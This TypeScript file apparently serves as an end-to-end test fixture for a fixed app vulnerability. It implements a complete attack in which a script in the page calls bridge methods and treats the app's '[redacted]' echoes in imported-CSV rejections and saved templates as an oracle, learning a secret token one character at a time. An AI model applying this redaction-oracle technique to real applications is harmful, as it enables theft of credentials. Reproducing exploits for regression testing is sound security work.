// The attack from issue 16, as a script in the window would run it: learn the token one character
// at a time through main's echoes, watching which guess comes back as "[redacted]". Self-contained
// (no imports, no closure) so the e2e spec can run the very same function inside the page.

export type BridgeCall = (name: string, input: unknown) => Promise<{ ok: boolean; value?: unknown; error?: unknown }>;

export interface OracleResult {
  /** The token's end as the script learned it (what it was given included). */
  known: string;
  /** Characters learned beyond what it was given. */
  learned: number;
  /** Echo calls made. */
  rounds: number;
}

/**
 * `given`: characters of the token's end the script already holds (a shoulder-surfed tail); else it
 * starts from whatever app.status reveals (the old `…1234` hint). `alphabet`: the token's characters.
 */
export async function oracleAttack(call: BridgeCall, alphabet: string, given = '', maxRounds = 80): Promise<OracleResult> {
  const PIECE = 8;
  let rounds = 0;
  let known = given;
  if (known === '') {
    const status = await call('settings.get', {});
    const token = (status.value as { app?: { token?: Record<string, unknown> } } | undefined)?.app?.token ?? {};
    // Any string the status carries about the token is a foothold (the old hint was "…" + last 4).
    for (const v of Object.values(token)) if (typeof v === 'string') known = v.replace(/^…+/, '');
  }
  const start = known.length;
  if (known.length === 0) return { known, learned: 0, rounds };

  // Too little to fill an 8-character piece with one guess: try every filling at once through an
  // import (each guess a row with an invalid number, echoed in the rejected-rows CSV).
  if (known.length < PIECE - 1) {
    const missing = PIECE - known.length;
    const guesses: string[] = [''];
    for (let i = 0; i < missing; i++) {
      const next: string[] = [];
      for (const g of guesses) for (const c of alphabet) next.push(g + c);
      guesses.splice(0, guesses.length, ...next);
    }
    const csv = 'phone,name\n' + guesses.map((g, i) => `x${i},${g}${known}`).join('\n') + '\n';
    const preview = await call('import.preview', { fileName: 'guesses.csv', dataBase64: btoa(csv) });
    const importId = (preview.value as { importId: string }).importId;
    await call('import.analyse', { importId, hasHeader: true, phoneColumn: 0, defaultCountry: 'DK', message: 'hi' });
    const rejected = await call('import.rejectedCsv', { importId });
    rounds++;
    const text = (rejected.value as { csv: string } | undefined)?.csv ?? '';
    const hit = /"x(\d+)"[,;]"\[redacted\]"/.exec(text);
    if (!hit) return { known, learned: 0, rounds };
    known = guesses[Number(hit[1])] + known;
  }

  // One character per round: all guesses in one saved message, separated by spaces.
  while (rounds < maxRounds) {
    const guesses = [...alphabet].map((c) => c + known.slice(0, PIECE - 1));
    const saved = await call('template.save', { id: null, name: `notes ${rounds}`, text: guesses.join(' ') });
    rounds++;
    const text = (saved.value as { text?: string } | undefined)?.text ?? '';
    const words = text.split(' ');
    const at = words.indexOf('[redacted]');
    if (at < 0 || words.length !== guesses.length) break;
    known = alphabet[at] + known;
  }
  return { known, learned: known.length - start, rounds };
}
